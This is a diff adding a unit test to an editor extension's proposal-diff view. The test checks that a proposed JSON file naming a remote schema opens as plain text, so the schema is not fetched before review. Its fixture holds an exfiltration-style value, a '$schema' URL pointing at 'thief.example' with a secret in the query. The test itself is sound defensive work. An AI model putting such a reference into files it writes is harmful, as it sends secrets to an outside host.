@@ -74,4 +74,28 @@ describe('An open diff of a proposal', () => {
     changes.fire({ turnIds: [], uris: ['file:///c/b.txt'] });
     assert.equal(told.length, 2);
   });
+
+  it('shows a change as text that names another schema, which extensions would get before it is reviewed', async () => {
+    const shown: { readonly path: string }[] = [];
+    Object.assign(Uri, { from: (address: object) => address });
+    Object.assign(commands, {
+      executeCommand: async (_: string, ...sides: typeof shown) => void shown.push(...sides.slice(0, 2)),
+    });
+    Object.assign(workspace, { openTextDocument: async () => undefined });
+    const open = async (label: string, after: string) => {
+      const file = toFileProposal({ ...fileOf(label), before: '{}\n', after });
+      const about = {
+        turnId: 't',
+        conversationId: 'c',
+        createdAt: 0,
+        trouble: undefined,
+        revises: undefined,
+      };
+      await openProposalDiff({ ...about, id: 'p', files: [file] });
+      return shown.splice(0).map(({ path }) => path);
+    };
+    assert.deepEqual(await open('a.json', '{"a": 1}\n'), ['/a.json', '/a.json']);
+    const named = '{"$schema": "https://thief.example/?secret"}\n';
+    assert.deepEqual(await open('a.json', named), ['/a.json', '/a.json.txt']);
+  });
 });
